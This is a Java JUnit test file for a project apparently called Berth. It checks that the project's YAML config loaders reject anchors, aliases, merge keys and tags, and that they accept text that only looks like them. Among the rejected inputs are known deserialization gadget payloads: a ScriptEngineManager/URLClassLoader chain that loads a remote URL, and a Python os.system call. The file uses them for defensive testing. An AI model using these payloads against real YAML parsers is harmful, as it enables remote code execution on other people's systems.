package io.berth.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Anchors, aliases, merge keys and tags in every YAML file Berth reads: each refused before any value is used,
 * naming file, line and key, and leaving the file as it was; text that only looks like one is read as text.
 */
class YamlNodePropertiesTest {
    private static final String URL = "scheduler_url: http://127.0.0.1:5000\n";
    private static final String MERGE = "YAML merge keys (<<) are not supported; write the keys out";

    @TempDir
    Path home;

    /** A kind of file Berth reads, and how Berth reads it. */
    enum Kind {
        JOB_CONFIG("job.config.yaml") {
            @Override
            void read(Path file) {
                JobConfigLoader.load(file.getParent());
            }
        },
        SERVER("server.yaml") {
            @Override
            void read(Path file) {
                ServerConfigLoader.load(file.getParent());
            }
        },
        SUBMISSION("remote.config.yaml") {
            @Override
            void read(Path file) {
                SubmissionConfigs.load(file);
            }
        },
        LOGIN("remote.config.yaml") {
            @Override
            void read(Path file) {
                SubmissionConfigs.writeToken(file, "berth_new1111111111111111");
            }
        },
        SWEEP("sweep.yaml") {
            @Override
            void read(Path file) {
                SweepFile.load(file);
            }
        };

        final String fileName;

        Kind(String fileName) {
            this.fileName = fileName;
        }

        abstract void read(Path file);
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                refused(Kind.JOB_CONFIG, "params:\n  lr: &lr 0.1\n  lr2: *lr\n", 3, "params.lr2", alias("lr")),
                refused(Kind.JOB_CONFIG, "params: &p\n  a: 1\n", 1, "params", anchor("p")),
                refused(Kind.JOB_CONFIG, "base: &b {image: x}\nworker:\n  <<: *b\n", 3, "worker.<<", MERGE),
                refused(Kind.JOB_CONFIG, "params:\n  <<: {lr: 0.1}\n", 2, "params.<<", MERGE),
                refused(Kind.JOB_CONFIG, "params:\n  m: {<<: [{a: 1}]}\n", 2, "params.m.<<", MERGE),
                refused(Kind.JOB_CONFIG, "params:\n  n: !!str 5\n", 2, "params.n", tag("!!str")),
                refused(Kind.JOB_CONFIG, "params:\n  e: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                        + " [[!!java.net.URL [\"http://x/\"]]]]\n", 2, "params.e",
                        tag("!!javax.script.ScriptEngineManager")),
                refused(Kind.JOB_CONFIG, "params:\n  - !!python/object/apply:os.system [id]\n", 2, "params[0]",
                        tag("!!python/object/apply:os.system")),
                refused(Kind.JOB_CONFIG, "worker:\n  image: !custom x\n", 2, "worker.image", tag("!custom")),
                refused(Kind.JOB_CONFIG, "worker:\n  image: !<tag:example.com,2024:img> x\n", 2, "worker.image",
                        tag("!<tag:example.com,2024:img>")),
                refused(Kind.JOB_CONFIG, "%TAG !e! tag:example.com,2024:\n---\nparams:\n  a: !e!x 1\n", 4, "params.a",
                        tag("!<tag:example.com,2024:x>")),
                refused(Kind.JOB_CONFIG, "params:\n  !!str n: 5\n", 2, "params.n", tag("!!str")),
                refused(Kind.JOB_CONFIG, "--- !!map\nproject_name: p\n", 1, "", tag("!!map")),
                refused(Kind.JOB_CONFIG, "--- &root\nproject_name: p\n", 1, "", anchor("root")),
                refused(Kind.JOB_CONFIG, "params:\n  a: [&x 1, *x]\n", 2, "params.a[1]", alias("x")),
                refused(Kind.SERVER, "slots: &n 2\n", 1, "slots", anchor("n")),
                refused(Kind.SERVER, "port: 5000\nbind: !!str 0.0.0.0\n", 2, "bind", tag("!!str")),
                refused(Kind.SERVER, "allowed_networks: [&b bridge]\nnetwork: *b\n", 2, "network", alias("b")),
                refused(Kind.SERVER, "volume_allow_list:\n  - /data\n  - !!binary L2V0Yw==\n", 3,
                        "volume_allow_list[1]", tag("!!binary")),
                refused(Kind.SUBMISSION, URL + "token: !!str abcdefghijklmnop\n", 2, "token", tag("!!str")),
                refused(Kind.SUBMISSION, URL + "worker: &w\n  image: x\n", 2, "worker", anchor("w")),
                refused(Kind.SUBMISSION, "cache_config: {u: &u http://a}\nscheduler_url: *u\n", 2, "scheduler_url",
                        alias("u")),
                refused(Kind.LOGIN, URL + "worker:\n  <<: {image: x}\n", 3, "worker.<<", MERGE),
                refused(Kind.LOGIN, URL + "token: !!python/object:x abcdefghijklmnop\n", 2, "token",
                        tag("!!python/object:x")),
                refused(Kind.SWEEP, "grid:\n  lr: &lrs [0.1, 0.01]\n  lr2: *lrs\n", 3, "grid.lr2", alias("lrs")),
                refused(Kind.SWEEP, "sets:\n  - &s {lr: 0.1}\n  - {<<: *s, batch: 32}\n", 3, "sets[1].<<", MERGE),
                refused(Kind.SWEEP, "random:\n  n: 2\n  params:\n    lr: !!float 0.1\n", 4, "random.params.lr",
                        tag("!!float")));
    }

    private static String tag(String tag) {
        return "YAML tags (" + tag + ") are not supported; write the plain value (quoted, for a string)";
    }

    private static String alias(String name) {
        return "YAML aliases (*" + name + ") are not supported; write the value";
    }

    private static String anchor(String name) {
        return "YAML anchors (&" + name + ") are not supported; remove it";
    }

    private static Arguments refused(Kind kind, String yaml, int line, String key, String detail) {
        return Arguments.of(kind, yaml, line, key, detail);
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("hostile")
    void isRefusedNamingFileLineAndKeyAndChangesNothing(Kind kind, String yaml, int line, String key, String detail)
            throws IOException {
        Path file = Files.writeString(home.resolve(kind.fileName), yaml);
        List<Path> before = listing();

        ConfigException e = catchThrowableOfType(ConfigException.class, () -> kind.read(file));

        assertThat(e).as("refused").isNotNull();
        assertThat(e.file()).isEqualTo(file);
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.key()).isEqualTo(key.isEmpty() ? null : key);
        assertThat(e.detail()).isEqualTo(detail);
        assertThat(e.getMessage()).isEqualTo(file + ":" + line + ": " + (key.isEmpty() ? "" : key + ": ") + detail);
        assertThat(Files.readString(file)).as("the file is as it was").isEqualTo(yaml);
        assertThat(listing()).as("nothing written").isEqualTo(before);
    }

    static Stream<Arguments> innocent() {
        String lookAlikes = "  command: \"a*b\"\n  note: it's 5 * 3\n  pattern: \"!x\"\n  amp: a&b\n"
                + "  star: '*a'\n  bang: a!b\n  tag: '!!str'\n  merge: '<<'\n  \"<<\": quoted, so a plain key\n"
                + "  block: |\n    &a *a !!str <<: x\n  # &a *a !!str <<: *a\n";
        return Stream.of(
                Arguments.of(Kind.JOB_CONFIG,
                        "worker:\n  command: python a*b.py --x '*y' \"!z\"\nparams:\n" + lookAlikes),
                Arguments.of(Kind.SERVER, "bind: \"127.0.0.1\"  # &a *a !!str\n"
                        + "dependency_install_command: pip install -r a*b.txt && echo !x &\n"),
                Arguments.of(Kind.SUBMISSION, URL + "worker:\n" + lookAlikes),
                Arguments.of(Kind.LOGIN, URL + "log_level: '!info'\n"),
                Arguments.of(Kind.SWEEP, "random:\n  n: 2\n  params:\n" + lookAlikes.replace("  ", "    ")));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("innocent")
    void textThatOnlyLooksLikeAnAnchorAliasTagOrMergeKeyIsRead(Kind kind, String yaml) throws IOException {
        Path file = Files.writeString(home.resolve(kind.fileName), yaml);
        assertThatCode(() -> kind.read(file)).doesNotThrowAnyException();
    }

    @Test
    void lookAlikesKeepTheirText() {
        JobConfig c = JobConfigLoader.parse(Path.of("job.config.yaml"), "params:\n  command: \"a*b\"\n"
                + "  note: it's 5 * 3\n  pattern: \"!x\"\n  \"<<\": 1\n  block: |\n    &a *a !!str <<: x\n");
        assertThat(c.params()).containsEntry("command", "a*b").containsEntry("note", "it's 5 * 3")
                .containsEntry("pattern", "!x").containsEntry("<<", 1).containsEntry("block", "&a *a !!str <<: x\n");
    }

    private List<Path> listing() throws IOException {
        try (Stream<Path> files = Files.list(home)) {
            return files.sorted().toList();
        }
    }
}
